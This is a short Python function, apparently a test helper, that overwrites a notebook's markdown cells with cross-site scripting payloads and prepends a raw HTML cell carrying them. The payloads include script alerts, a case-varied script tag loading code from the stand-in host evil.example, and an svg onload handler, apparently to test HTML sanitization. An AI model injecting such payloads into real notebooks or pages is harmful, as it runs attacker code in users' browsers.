def edit(cells):
    text = "<script>alert(1)</script><ScRiPt src=//evil.example/x></sCrIpT><svg/onload=alert(1)>"
    for cell in cells:
        if cell["cell_type"] == "markdown":
            cell["source"] = text
    cells.insert(0, {"cell_type": "raw", "metadata": {"format": "text/html"}, "source": text})
